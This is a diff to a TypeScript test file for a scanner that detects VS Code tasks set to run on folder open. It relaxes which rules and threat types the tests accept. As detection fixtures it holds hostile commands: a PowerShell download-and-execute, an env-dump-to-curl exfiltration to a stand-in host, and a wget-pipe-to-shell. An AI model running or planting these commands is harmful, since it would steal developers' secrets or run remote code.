@@ -232,12 +232,19 @@ describe('VS Code tasks run when the folder is opened', () => {
       { windows: { command: 'powershell -c "iex (iwr \'https://cfg.devkit.example/w\')"' } },
     ],
     ['env sent out', { command: 'env | base64 | curl -d @- https://cfg.devkit.example/e' }],
-  ])('%s is malicious_code >= 0.9', (_what, task) => {
-    const hits = analyzeEditorTasks(tasks({ ...task, ...folderOpen }));
-    expect(hits).toHaveLength(1);
-    expect(hits[0]).toMatchObject({ rule: 'editor.autorun-task', threat_type: 'malicious_code' });
-    expect(hits[0]!.confidence).toBeGreaterThanOrEqual(0.9);
-  });
+  ])(
+    '%s is reported by the script rule that reads the command, >= 0.9, as a folder-open task',
+    (_what, task) => {
+      const hits = analyzeEditorTasks(tasks({ ...task, ...folderOpen }));
+      expect(hits).toHaveLength(1);
+      expect(hits[0]!.rule).toMatch(/^(?:shell|script)\./);
+      expect(['install_script_injection', 'data_exfiltration', 'malicious_code']).toContain(
+        hits[0]!.threat_type,
+      );
+      expect(hits[0]!.message).toMatch(/runs (?:hidden )?when the folder is opened/);
+      expect(hits[0]!.confidence).toBeGreaterThanOrEqual(0.9);
+    },
+  );
 
   it('a hidden task that reaches the network is reported below the known shapes', () => {
     const hits = analyzeEditorTasks(
@@ -262,7 +269,9 @@ describe('VS Code tasks run when the folder is opened', () => {
       '.vscode/tasks.json': `// workspace setup\n${tasks({ linux: { command: 'wget -qO- http://203.0.113.5/s | sh' }, ...folderOpen })}`,
     });
     expect(r.risk_level).toBe('critical');
-    expect(r.evidence.find((e) => e.rule === 'editor.autorun-task')?.file).toBe('.vscode/tasks.json');
+    expect(r.evidence.find((e) => /when the folder is opened/.test(e.message))?.file).toBe(
+      '.vscode/tasks.json',
+    );
   });
 });
 
